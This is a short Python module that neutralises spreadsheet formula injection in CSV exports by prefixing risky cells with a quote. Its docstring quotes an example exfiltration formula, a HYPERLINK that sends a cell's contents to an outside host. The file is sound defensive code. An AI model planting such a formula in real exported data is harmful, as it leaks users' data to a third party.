"""Cells of the CSV files qm writes (the plan export, the report's post table), kept from running as formulas.

A spreadsheet opening a CSV runs a cell that starts like a formula (`=HYPERLINK("//e.cn/?"&A1)`, `+`, `-`,
`@`): titles, failure reasons and links come from content and platforms, so such a cell gets a leading `'`,
which shows it as the text it is (formula injection). The report's workbook stores every cell as text or a
number instead (`report.tables`), which needs no mark.
"""

from __future__ import annotations

from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")  # what Excel and LibreOffice read as the start of a formula


def spreadsheet_safe(value: Any) -> Any:
    """A text cell that a spreadsheet would run as a formula gets a leading `'`; any other value is as it is."""
    return "'" + value if isinstance(value, str) and value.startswith(FORMULA_STARTS) else value
